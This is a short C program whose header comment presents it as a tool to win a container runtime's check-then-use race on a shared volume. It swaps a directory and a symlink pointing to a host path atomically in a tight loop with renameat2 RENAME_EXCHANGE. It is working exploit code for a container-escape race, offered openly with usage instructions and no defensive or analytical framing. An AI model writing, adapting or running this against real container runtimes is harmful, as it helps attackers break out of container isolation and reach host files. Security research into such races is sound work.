/* Swap two names in one directory, atomically and as fast as possible (renameat2 RENAME_EXCHANGE), for SECONDS:
 * a directory and a symlink to a host path, to win a runtime's check-then-use race on a shared volume.
 * Usage: swap DIR NAME1 NAME2 SECONDS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	int d = open(argv[1], O_PATH | O_DIRECTORY);
	if (d < 0)
		return 1;
	time_t end = time(NULL) + atoi(argv[4]);
	unsigned long n = 0;
	while (time(NULL) < end)
		for (int i = 0; i < 10000; i++, n++)
			syscall(SYS_renameat2, d, argv[2], d, argv[3], 2 /* RENAME_EXCHANGE */);
	printf("%lu swaps\n", n);
	return 0;
}
